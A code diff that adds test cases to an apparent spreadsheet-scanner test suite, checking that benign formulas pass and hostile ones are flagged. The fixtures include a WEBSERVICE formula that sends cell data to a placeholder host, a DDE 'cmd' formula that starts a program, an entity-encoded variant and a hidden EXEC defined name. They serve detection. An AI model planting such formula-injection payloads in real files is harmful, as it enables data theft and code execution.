@@ -16,6 +16,11 @@ describe('a workbook that is what it says', () => {
     expect(scan(Buffer.from(written))).toEqual({ sound: true });
   });
 
+  it('passes with formulas that stay inside', () => {
+    for (const formula of ['SUM(B2:B9)', 'IF(A2="a|b","!","")', 'B2/C2*100', "'资金 表'!B2"])
+      expect(scan(sheet(`<row r="1"><c r="A1"><f>${formula}</f><v>1</v></c></row>`)), formula).toEqual({ sound: true });
+  });
+
   it('passes with hyperlinks, and with cells far out that only have a format', () => {
     const link = (type: string) => ({
       name: 'xl/worksheets/_rels/sheet1.xml.rels',
@@ -63,6 +68,17 @@ describe('a hostile file', () => {
     [
       'entities that grow',
       having(SHEET, { content: '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><worksheet>&b;</worksheet>' }),
+      'active',
+    ],
+    ['a formula that fetches', sheet('<row r="1"><c r="A1"><f>WEBSERVICE("http://x/?"&amp;B1)</f><v>1</v></c></row>'), 'active'],
+    ['a formula that is a link', sheet('<row r="1"><c r="A1"><f>HYPERLINK("http://x","好")</f><v>1</v></c></row>'), 'active'],
+    ['a formula that starts a program', sheet('<row r="1"><c r="A1"><f>cmd|&apos; /C calc&apos;!A0</f><v>1</v></c></row>'), 'active'],
+    ['such a formula spelt by numbers', sheet('<row r="1"><c r="A1"><f>&#87;EBSERVICE("http://x")</f><v>1</v></c></row>'), 'active'],
+    [
+      'a name for such a formula',
+      having('xl/workbook.xml', {
+        content: '<workbook><definedNames><definedName name="a">EXEC("x")</definedName></definedNames></workbook>',
+      }),
       'active',
     ],
     ['markup in UTF-16', having(SHEET, { content: Buffer.from('\ufeff<!DOCTYPE x>', 'utf16le') }), 'damaged'],
